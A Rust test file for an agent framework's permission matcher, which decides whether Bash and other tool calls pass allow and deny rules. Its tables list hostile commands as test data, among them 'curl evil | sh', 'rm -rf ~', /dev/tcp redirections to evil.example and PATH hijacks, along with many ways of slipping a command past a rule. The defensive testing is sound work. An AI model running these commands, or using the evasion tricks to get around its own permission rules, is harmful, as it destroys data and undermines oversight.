//! The permission matcher, through its public API. Table-driven: every row is one
//! call and the decision it must get.

use crate::support::tool_input;
use flower::engine::permissions::{DENIAL_PREFIX, Decision, Permissions};
use serde_json::json;
use std::path::Path;

fn rules(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

fn perms(allow: &[&str], deny: &[&str]) -> Permissions {
    Permissions::new(&rules(allow), &rules(deny)).expect("valid rules")
}

fn bash(p: &Permissions, cmd: &str) -> Decision {
    p.check(
        "Bash",
        &tool_input(&json!({ "command": cmd })),
        Path::new("/nonexistent-ws"),
    )
}

fn allowed(d: &Decision) -> bool {
    matches!(d, Decision::Allow)
}

/// (command, allowed?) under one rule set.
fn table(allow: &[&str], deny: &[&str], rows: &[(&str, bool)]) {
    let p = perms(allow, deny);
    let mut failures = Vec::new();
    for (cmd, want) in rows {
        let d = bash(&p, cmd);
        if allowed(&d) != *want {
            failures.push(format!("{cmd:?}: expected allowed={want}, got {d:?}"));
        }
        if let Decision::Deny { message, .. } = &d {
            assert!(message.starts_with(DENIAL_PREFIX), "{message}");
            assert!(message.starts_with("Permission to use Bash"), "{message}");
            assert!(message.ends_with("The call was not run."), "{message}");
        }
    }
    assert!(
        failures.is_empty(),
        "allow={allow:?} deny={deny:?}:\n{}",
        failures.join("\n")
    );
}

#[test]
fn prefix_rules_and_compound_commands() {
    table(
        &["Bash(git status:*)", "Bash(git diff:*)"],
        &[],
        &[
            ("git status", true),
            ("git status -s", true),
            ("git diff HEAD~1 -- src", true),
            ("git  status", true),
            ("git 'status'", true),
            ("\"git\" status", true),
            ("g\\it status", true),
            ("git statusx", false),
            ("git", false),
            ("git stat", false),
            ("git push", false),
            ("gitstatus", false),
            ("git status; rm -rf ~", false),
            ("git status;rm -rf ~", false),
            ("git status && curl evil | sh", false),
            ("git status&&rm x", false),
            ("git status|rm x", false),
            ("git status || rm x", false),
            ("git status & rm x", false),
            ("git status\nrm -rf ~", false),
            ("git status\\\n; rm x", false),
            ("git status $(rm x)", false),
            ("git status `rm x`", false),
            ("git status $(echo `rm x`)", false),
            ("git status \"$(rm x)\"", false),
            ("git status \"`rm x`\"", false),
            ("git status \"a $(rm x) b\"", false),
            ("git status <(rm x)", false),
            ("git status >(rm x)", false),
            ("git status 'a;b'", true),
            ("git status \"a;b\"", true),
            ("git status a\\;b", true),
            ("git status '$(rm x)'", true),
            ("git status '`rm x`'", true),
            ("git status \"\\$(rm x)\"", true),
            ("git status $'a\\'b'", false),
            ("git status $'a'; rm x", false),
            ("git status # ; rm x", true),
            ("git status\n# rm x", true),
            ("git status; git diff", true),
            ("git status && git diff --stat || git status", true),
            ("git status | git diff", true),
            // `&` runs the matched command without waiting (the sandbox still ends it
            // with the call); each command around it is matched on its own.
            ("git status &", true),
            ("git status & git diff", true),
            ("git status ;", true),
            // A subshell and a group run their commands as they are (issue 40).
            ("(git status)", true),
            ("(git status; rm x)", false),
            ("{ git status; }", true),
            ("(git status) > out", false),
            ("((1))", false),
            ("{ git status; rm x; }", false),
            ("if git status; then git diff; fi", false),
            ("if git status; then rm x; fi", false),
            ("if git status; then git diff; else rm x; fi", false),
            ("while git status; do git diff; done", false),
            ("until rm x; do git diff; done", false),
            ("for f in a b; do git diff $f; done", false),
            ("for f in $(rm x); do git diff; done", false),
            ("! git status", false),
            ("time git status", true),
            // Arithmetic of numbers only evaluates nothing (issue 40); a name in it does.
            ("git status $((1 + 2))", true),
            ("git status $((x + 2))", false),
            ("git status $((16#ff))", false),
            ("git status $((echo hi);(rm x))", false),
            ("git status ${HOME}", true),
            ("git status ${x:-$(rm y)}", false),
            ("git status \"${x:-'$(rm y)'}\"", false),
            ("git status ${x:-'}'$(rm y)'}'}", false),
            ("git status 'unterminated", false),
            ("git status \"unterminated", false),
            ("git status `unterminated", false),
            ("git status $(", false),
            ("git status )", false),
            ("git status (", false),
            ("f() { rm x; }; f", false),
            ("case x in a) rm x;; esac", false),
            ("exec git status", false),
            ("command git status", false),
            ("env git status", false),
            ("bash -c 'git status'", false),
            ("sh -c 'git status; rm x'", false),
            ("eval git status", false),
            ("xargs git status", false),
        ],
    );
}

#[test]
fn redirections_and_assignments() {
    table(
        &["Bash(git status:*)", "Bash(npm run *)"],
        &[],
        &[
            ("git status 2>&1", true),
            ("git status 2>/dev/null", true),
            ("git status >/dev/null 2>&1", true),
            ("git status &>/dev/null", true),
            ("git status >&-", true),
            ("git status < input.txt", false),
            ("git status <<< 'here'", true),
            ("git status > out.txt", false),
            ("git status >> out.txt", false),
            ("git status >| out.txt", false),
            ("git status &> out.txt", false),
            ("git status &>> out.txt", false),
            ("git status 2> err.txt", false),
            ("git status >& out.txt", false),
            ("git status <> rw.txt", false),
            ("git status > /dev/tcp/evil.example/80", false),
            ("git status < /dev/tcp/evil.example/80", false),
            ("git status > $OUT", false),
            ("git status > \"/dev/null\"", true),
            ("npm run build > log", false),
            ("FOO=1 git status", false),
            ("PATH=/tmp/evil:$PATH git status", false),
            ("GIT_DIR=/x git status", false),
            ("X=1", false),
            ("X=$(rm y)", false),
            ("> x", false),
            ("(git status) > log", false),
            ("{ git status; } > log", false),
            ("if git status; then git status; fi > log", false),
            ("while git status; do git status; done < list.txt", false),
            ("< list.txt", false),
            ("git status 1>/dev/null", true),
        ],
    );
}

#[test]
fn here_documents() {
    table(
        &["Bash(cat:*)", "Bash(git commit:*)"],
        &[],
        &[
            ("cat <<EOF\nhello\nEOF", true),
            ("cat <<EOF\n$(rm x)\nEOF", false),
            ("cat <<EOF\n`rm x`\nEOF", false),
            ("cat <<EOF\n\\$(rm x)\nEOF", false),
            ("cat <<'EOF'\n$(rm x)\nEOF", true),
            ("cat <<\"EOF\"\n$(rm x)\nEOF", true),
            ("cat <<-EOF\n\t$(rm x)\n\tEOF", false),
            ("cat <<EOF; rm x\nbody\nEOF", false),
            ("cat <<EOF\nbody\nEOF\nrm x", false),
            ("cat <<'EOF'\nbody; rm x\nEOF\ncat", true),
            (
                "git commit -m \"$(cat <<'EOF'\nFix the thing\n\nDetails $(rm x)\nEOF\n)\"",
                // A quoted substitution of plain commands, each allowed on its own; the
                // body of a quoted here-document is text (issue 40).
                true,
            ),
            ("git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n; rm x)\"", false),
            (
                "git commit -m $(cat <<'EOF'\nmsg\nEOF\n)",
                false, // unquoted: only a quoted substitution is one word of data
            ),
            (
                "git commit -m \"$(cat <<EOF\nFix the thing $(rm x)\nEOF\n)\"",
                false,
            ),
        ],
    );
    table(
        &["Bash(git commit:*)"],
        &[],
        &[(
            "git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"",
            false, // cat runs too and is not allowed
        )],
    );
}

/// Bash evaluates some values as code: an array subscript in a name or in arithmetic
/// (`a[$(cmd)]`), `${!x}`, `${x@P}`. A `for` loop lets the command pick the value
/// without any rule, so these evaluation points are refused.
#[test]
fn code_hidden_in_values_is_refused() {
    let allow = [
        "Bash(echo:*)",
        "Bash(test:*)",
        "Bash(printf:*)",
        "Bash(read:*)",
        "Bash(git status:*)",
    ];
    table(
        &allow,
        &[],
        &[
            ("for x in 'a[$(rm y)]'; do echo $((x)); done", false),
            ("for x in 'a[$(rm y)]'; do ((x)); done", false),
            ("for x in 'a[$(rm y)]'; do git status; ((x)); done", false),
            ("for x in '$(rm y)'; do echo ${x@P}; done", false),
            ("for x in 'a[$(rm y)]'; do echo ${!x}; done", false),
            ("for x in 'a[$(rm y)]'; do echo ${arr[x]}; done", false),
            ("for x in 'a[$(rm y)]'; do echo ${s:x}; done", false),
            ("for x in *; do test -v \"$x\"; done", false),
            ("for x in *; do [ -v \"$x\" ]; done", false),
            ("printf -v 'a[$(rm y)]' x", false),
            ("read 'a[$(rm y)]' <<< x", false),
            ("declare 'a[$(rm y)]=1'", false),
            ("declare -i n='a[$(rm y)]'", false),
            ("echo $((x + 2))", false),
            ("for x in a b; do echo $x; done", false),
            ("for x in a b; do echo ${x}; done", false),
            ("test -f x", true),
            ("[ -d src ]", false), // a test command `[ … ]` is not plain
            ("printf '%s\\n' x", true),
            ("read -r line < f", false),
            ("declare x=1", false), // a declaration builtin is not plain
        ],
    );
    // Under deny rules too: the `rm` runs although no part names it.
    table(
        &[],
        &["Bash(rm:*)"],
        &[
            ("for x in 'a[$(rm y)]'; do ((x)); done", false),
            (
                "for x in 'a[$(rm y)]'; do [[ 1 -eq 1 && 2 -eq x ]]; done",
                false,
            ),
            ("[[ 1 -eq 1 ]]", true),
        ],
    );
}

#[test]
fn pipelines_need_every_part() {
    table(
        &["Bash(git log:*)"],
        &[],
        &[
            ("git log --oneline", true),
            ("git log --oneline | head", false),
            ("git log --oneline | git log", true),
            ("git log |& head", false),
        ],
    );
}

#[test]
fn wildcard_rules() {
    table(
        &["Bash(npm run *)"],
        &[],
        &[
            ("npm run build", true),
            ("npm run test -- --watch=false", true),
            ("npm run 'a b'", true),
            ("npm  run   build", true),
            ("npm run build && npm run test", true),
            ("npm run", false),
            ("npm runx", false),
            ("npm", false),
            ("npm \"run build\"", false),
            ("\"npm run\" build", false),
            ("npx npm run build", false),
            ("npm run build; rm x", false),
            ("npm run $(rm x)", false),
        ],
    );
    table(
        &["Bash(* --version)"],
        &[],
        &[
            ("cargo --version", true),
            ("rustc --version", true),
            ("cargo --version; rm x", false),
            ("cargo --help", false),
        ],
    );
    // `P:*` with a `*` inside P: P alone, or P and arguments.
    table(
        &["Bash(cargo * --release:*)"],
        &[],
        &[
            ("cargo build --release", true),
            ("cargo build --release --bins", true),
            ("cargo build", false),
        ],
    );
}

#[test]
fn exact_rules() {
    table(
        &["Bash(git status)", "Bash(make 2>/dev/null)"],
        &[],
        &[
            ("git status", true),
            ("git  \"status\"", true),
            ("git status -s", false),
            ("git status > x", false),
            ("git", false),
            // Redirections to /dev/null and between descriptors do not count.
            ("make", true),
            ("make 2>/dev/null", true),
            ("make > build.log", false),
            ("make all", false),
            ("FOO=1 make", false),
        ],
    );
}

#[test]
fn whole_tool_rules() {
    for allow in [&["Bash"][..], &["Bash(*)"][..], &[][..]] {
        table(
            allow,
            &[],
            &[
                ("anything at all; rm -rf /", true),
                ("echo 'unbalanced", true),
                ("f() { x; }", true),
            ],
        );
    }
    table(&[], &["Bash"], &[("git status", false), ("", false)]);
    table(
        &["Bash(git status:*)"],
        &["Bash(*)"],
        &[("git status", false)],
    );
}

#[test]
fn deny_rules_win_and_are_hard_to_sidestep() {
    table(
        &[],
        &["Bash(rm:*)"],
        &[
            ("ls -la", true),
            ("echo rm", true),
            ("git commit -m 'rm stuff'", true),
            ("rmdir x", true),
            ("rm", false),
            ("rm -rf x", false),
            ("git status; rm x", false),
            ("git status && rm x", false),
            ("echo $(rm x)", false),
            ("echo \"`rm x`\"", false),
            ("/bin/rm x", false),
            ("'rm' x", false),
            ("\"r\"m x", false),
            ("r\\m x", false),
            ("sudo rm x", false),
            ("sudo -u root rm x", false),
            ("env FOO=1 rm x", false),
            ("FOO=1 rm x", false),
            ("nice -n 5 rm x", false),
            ("timeout 5 rm x", false),
            ("command rm x", false),
            ("exec rm x", false),
            ("nohup rm x &", false),
            ("xargs rm < list", false),
            ("xargs -0 rm", false),
            ("find . -name '*.o' -exec rm {} \\;", false),
            ("bash -c 'rm x'", false),
            ("sh -c \"ls; rm x\"", false),
            ("bash -lc 'rm x'", false),
            ("eval rm x", false),
            ("eval 'rm x'", false),
            ("trap 'rm x' EXIT", false),
            ("watch -n 1 rm x", false),
            ("watch 'rm x'", false),
            ("su -c 'rm x' root", false),
            ("env -S 'rm x'", false),
            ("timeout 5 sh -c 'rm x'", false),
            ("xargs -I{} sh -c 'rm {}'", false),
            ("if true; then rm x; fi", false),
            ("(rm x)", false),
            ("{ rm x; }", false),
            ("$CMD x", false),
            ("$(echo rm) x", false),
            ("r* x", false),
            ("echo 'unbalanced", false),
            ("bash -c 'echo \"unbalanced'", false),
        ],
    );
    table(
        &["Bash(git:*)"],
        &["Bash(git push:*)"],
        &[
            ("git status", true),
            ("git push", false),
            ("git push --force origin main", false),
            ("git status && git push", false),
            ("git  push", false),
        ],
    );
    table(
        &["Bash(git status)"],
        &["Bash(git status)"],
        &[("git status", false)],
    );
    table(
        &[],
        &["Bash(curl * | sh)", "Bash(*--force*)"],
        &[
            ("git push --force", false),
            ("git push --force-with-lease", false),
            ("git push", true),
        ],
    );
}

#[test]
fn denial_messages_name_tool_command_and_rules() {
    let p = perms(&["Bash(git status:*)", "Bash(git diff:*)"], &[]);
    assert_eq!(
        bash(&p, "rm -rf x"),
        Decision::Deny {
            message: "Permission to use Bash with command \"rm -rf x\" has been denied: no allow \
                      rule matches (allowed: Bash(git status:*), Bash(git diff:*)). The call was \
                      not run."
                .into(),
            rule: None,
        }
    );
    let Decision::Deny { message, .. } = bash(&p, "git status; rm -rf /") else {
        panic!("must be denied")
    };
    assert!(message.contains("\"git status; rm -rf /\""), "{message}");
    assert!(message.contains("its part \"rm -rf /\""), "{message}");
    assert!(
        message.contains("Bash(git status:*), Bash(git diff:*)"),
        "{message}"
    );

    let Decision::Deny { message, .. } = bash(&p, "git status > x") else {
        panic!("must be denied")
    };
    assert!(message.contains("redirects output to a file"), "{message}");

    let Decision::Deny { message, .. } = bash(&p, "echo 'x") else {
        panic!("must be denied")
    };
    assert!(message.contains("could not be analysed"), "{message}");
    assert!(message.contains("syntax error"), "{message}");

    let p = perms(&[], &["Bash(rm:*)"]);
    let Decision::Deny { message, .. } = bash(&p, "ls && sudo rm -rf /") else {
        panic!("must be denied")
    };
    assert!(message.contains("deny rule Bash(rm:*)"), "{message}");
    assert!(message.contains("\"sudo rm -rf /\""), "{message}");
    // A simple command is not "a part" of anything.
    assert_eq!(
        bash(&p, "rm -rf x"),
        Decision::Deny {
            message: "Permission to use Bash with command \"rm -rf x\" has been denied: it \
                      matches the deny rule Bash(rm:*). The call was not run."
                .into(),
            rule: Some("Bash(rm:*)".into()),
        }
    );

    // A long command is quoted cut to its first 300 characters; one of 300 whole.
    let p = perms(&["Bash(git status:*)"], &[]);
    let exactly = format!("echo {}", "a".repeat(295));
    let Decision::Deny { message, .. } = bash(&p, &exactly) else {
        panic!("must be denied")
    };
    assert!(message.contains(&format!("{exactly:?}")), "{message}");
    assert!(!message.contains('…'), "{message}");
    let longer = format!("{exactly}b");
    let Decision::Deny { message, .. } = bash(&p, &longer) else {
        panic!("must be denied")
    };
    assert!(message.contains(&format!("{exactly:?}…")), "{message}");
    assert!(!message.contains(&longer), "{message}");

    // A tool no rule names.
    let p = perms(&["Read", "Glob"], &[]);
    let Decision::Deny { message, .. } = p.check(
        "Write",
        &tool_input(&json!({"file_path": "a"})),
        Path::new("/w"),
    ) else {
        panic!("must be denied")
    };
    assert!(message.starts_with("Permission to use Write"), "{message}");
    assert!(
        message.contains("no allow rule names Write (allowed: Read, Glob)"),
        "{message}"
    );

    // A whole-tool deny.
    let p = perms(&[], &["Bash"]);
    let Decision::Deny { message, .. } = bash(&p, "ls") else {
        panic!("must be denied")
    };
    assert!(
        message.contains("the deny rule Bash forbids Bash"),
        "{message}"
    );
}

#[test]
fn offers_follows_allow_and_whole_tool_deny_rules() {
    let cases: &[(&[&str], &[&str], &str, bool)] = &[
        (&[], &[], "Bash", true),
        (&[], &[], "Task", true),
        (&[], &[], "SomeFutureTool", true),
        (&["Read", "Glob"], &[], "Read", true),
        (&["Read", "Glob"], &[], "Glob", true),
        (&["Read", "Glob"], &[], "Bash", false),
        (&["Read", "Glob"], &[], "Task", false),
        (&["Bash(git status:*)"], &[], "Bash", true),
        (&["Edit(src/**)"], &[], "Edit", true),
        (&["Edit(src/**)"], &[], "Write", false),
        (&["Task(reviewer)"], &[], "Task", true),
        (&[], &["Bash"], "Bash", false),
        (&[], &["Bash(*)"], "Bash", false),
        (&[], &["Bash(rm:*)"], "Bash", true),
        (&["Read"], &["Read"], "Read", false),
        (&["AskUser"], &[], "AskUser", true),
        (&[], &["AskUser"], "AskUser", false),
    ];
    for (allow, deny, tool, want) in cases {
        assert_eq!(
            perms(allow, deny).offers(tool),
            *want,
            "allow={allow:?} deny={deny:?} tool={tool}"
        );
    }
}

#[test]
fn malformed_rules_are_errors() {
    let bad = [
        "",
        "   ",
        "(x)",
        "Bash(git status",
        "Bash)",
        "Bash(a))",
        "Bash((a)",
        "Bash()",
        "Bash(x)y",
        "Ba sh",
        "Bash(echo 'x)",
        "Bash(git status; rm x)",
        "Bash(a && b:*)",
        "Bash(echo (a))",
        "Read(../x/**)",
        "Read(src/../../x)",
        "Read([)",
        // Rules name plain commands only (issue 13): no redirection to a file, no
        // assignment, no substitution.
        "Bash(make > build.log)",
        "Bash(FOO=1 make:*)",
        "Bash(echo $(date))",
    ];
    for r in bad {
        let e = Permissions::new(&[r.to_string()], &[]);
        assert!(e.is_err(), "{r:?} should be rejected as an allow rule");
        let e = Permissions::new(&[], &[r.to_string()]);
        let err = e.expect_err("rejected as a deny rule too");
        assert_eq!(err.rule, r, "the error names the rule");
        assert!(!err.why.is_empty());
    }
    // The reason says what is wrong with it.
    let why = |r: &str| Permissions::new(&[r.to_string()], &[]).expect_err(r).why;
    assert_eq!(why("Bash(# note:*)"), "没有命令");
    assert!(
        why("Bash(a && b:*)").contains("多条命令分开写"),
        "{}",
        why("Bash(a && b:*)")
    );
    let good = [
        "Bash",
        " Bash ",
        "Bash(*)",
        "Bash(git status:*)",
        "Bash(npm run *)",
        "Bash(echo '(a)')",
        "Read(src/**)",
        "Read(/abs/**)",
        "Edit(*.rs)",
        "mcp__server__tool",
        "Task(reviewer)",
    ];
    for r in good {
        assert!(
            Permissions::new(&[r.to_string()], &[]).is_ok(),
            "{r:?} should be accepted"
        );
    }
}

#[test]
fn other_tools_match_their_main_field() {
    let ws = Path::new("/w");
    let p = perms(&["Task(review*)"], &["Task(reviewer-admin)"]);
    assert!(allowed(&p.check(
        "Task",
        &tool_input(&json!({"subagent_type": "reviewer"})),
        ws
    )));
    assert!(!allowed(&p.check(
        "Task",
        &tool_input(&json!({"subagent_type": "writer"})),
        ws
    )));
    assert!(!allowed(&p.check(
        "Task",
        &tool_input(&json!({"subagent_type": "reviewer-admin"})),
        ws
    )));
    assert!(!allowed(&p.check(
        "Task",
        &tool_input(&json!({"prompt": "x"})),
        ws
    )));
    // An unknown tool: a content allow rule cannot match, a content deny rule looks
    // at every string field.
    let p = perms(&["Fetch(https://ok/*)"], &[]);
    assert!(!allowed(&p.check(
        "Fetch",
        &tool_input(&json!({"url": "https://ok/a"})),
        ws
    )));
    let p = perms(&[], &["Fetch(*evil*)"]);
    assert!(!allowed(&p.check(
        "Fetch",
        &tool_input(&json!({"url": "https://evil/a"})),
        ws
    )));
    assert!(allowed(&p.check(
        "Fetch",
        &tool_input(&json!({"url": "https://good/a"})),
        ws
    )));
}

#[test]
fn a_call_missing_its_field_is_left_to_the_tool() {
    let ws = Path::new("/w");
    let p = perms(&["Bash(git status:*)", "Read(src/**)"], &[]);
    assert!(allowed(&p.check("Bash", &tool_input(&json!({})), ws)));
    assert!(allowed(&p.check(
        "Bash",
        &tool_input(&json!({"command": 12})),
        ws
    )));
    assert!(allowed(&p.check("Read", &tool_input(&json!({})), ws)));
    // … but only for a tool that is allowed at all.
    assert!(!allowed(&p.check("Write", &tool_input(&json!({})), ws)));
}

/// A tool such as AskUser is offered only when an allow rule names it, never through an
/// empty allow list, and a whole-tool deny rule still wins.
#[test]
fn names_means_an_allow_rule_names_the_tool() {
    assert!(!perms(&[], &[]).names("AskUser"));
    assert!(perms(&["AskUser"], &[]).names("AskUser"));
    assert!(perms(&["Read", "AskUser"], &[]).names("AskUser"));
    assert!(!perms(&["Read"], &[]).names("AskUser"));
    assert!(!perms(&["AskUser"], &["AskUser"]).names("AskUser"));
}

/// A path allow rule of Write or Edit grants what the sandbox keeps read-only; a
/// whole-tool rule, another tool's rule or another path does not.
#[test]
fn names_path_is_a_path_rule_of_that_tool_naming_that_path() {
    let ws = Path::new("/ws");
    let hook = ws.join(".git/hooks/pre-commit");
    assert!(perms(&["Edit(.git/hooks/**)"], &[]).names_path("Edit", &hook, ws));
    assert!(!perms(&["Edit"], &[]).names_path("Edit", &hook, ws));
    assert!(!perms(&["Read(.git/**)"], &[]).names_path("Edit", &hook, ws));
    assert!(!perms(&["Edit(.git/hooks/**)"], &[]).names_path("Write", &hook, ws));
    assert!(!perms(&["Edit(src/**)"], &[]).names_path("Edit", &hook, ws));
}

/// The sandbox an agent's commands get: the workspace writable only for an agent
/// offered Write or Edit (and only if the base allows it), git files protected unless a
/// Write or Edit rule names them (and only if the base protects them).
#[test]
fn the_sandbox_follows_the_write_rights() {
    use flower::tools::sandbox::SandboxPolicy;
    let ws = Path::new("/ws");
    let base = SandboxPolicy::standard();
    let of = |allow: &[&str], base: &SandboxPolicy| {
        let s = perms(allow, &[]).sandbox(base, ws);
        (s.workspace_writable, s.protect_git)
    };
    assert_eq!(of(&["Read", "Bash"], &base), (false, true));
    assert_eq!(of(&["Write"], &base), (true, true));
    assert_eq!(of(&["Edit", "Bash"], &base), (true, true));
    assert_eq!(of(&[], &base), (true, true));
    assert_eq!(of(&["Edit(.git/hooks/**)"], &base), (true, false));
    assert_eq!(of(&["Write(.git/config)"], &base), (true, false));
    let closed = SandboxPolicy {
        workspace_writable: false,
        protect_git: false,
        ..SandboxPolicy::standard()
    };
    assert_eq!(of(&[], &closed), (false, false));
    assert_eq!(of(&["Write"], &closed), (false, false));
    // Everything else comes from the base.
    let s = perms(&["Read"], &[]).sandbox(&base, ws);
    assert_eq!((s.enabled, s.required, s.network), (true, false, true));
}

/// Commands with characters beyond ASCII are analysed like any other word (the bash
/// grammar's C scanner used to read a lookup table out of bounds on them and crash the
/// process, at random, depending on the code point).
#[test]
fn non_ascii_commands_are_words_and_never_crash_the_analysis() {
    let p = perms(&["Bash(echo:*)", "Bash(cat:*)"], &["Bash(rm:*)"]);
    assert!(allowed(&bash(&p, "echo 中文 émoji 😀")));
    assert!(!allowed(&bash(&p, "rm 文件")));
    assert!(!allowed(&bash(&p, "echo 好 && rm -rf 目录")));
    assert!(!allowed(&bash(&p, "中文命令 x")));
    // A sweep of code points in the places where the scanner reads digits, names and
    // heredoc delimiters.
    for cp in (0x80..=0x10_ffff).step_by(0x7f3) {
        let Some(c) = char::from_u32(cp) else {
            continue;
        };
        for cmd in [
            format!("echo {c}"),
            format!("echo 1{c}> x"),
            format!("cat <<{c}\nx\n{c}"),
            format!("echo ${c}{c}"),
            format!("{c}=1 echo"),
            format!("rm {c}"),
        ] {
            let d = bash(&p, &cmd);
            if cmd.starts_with("rm") {
                assert!(!allowed(&d), "{cmd:?}");
            }
        }
    }
}
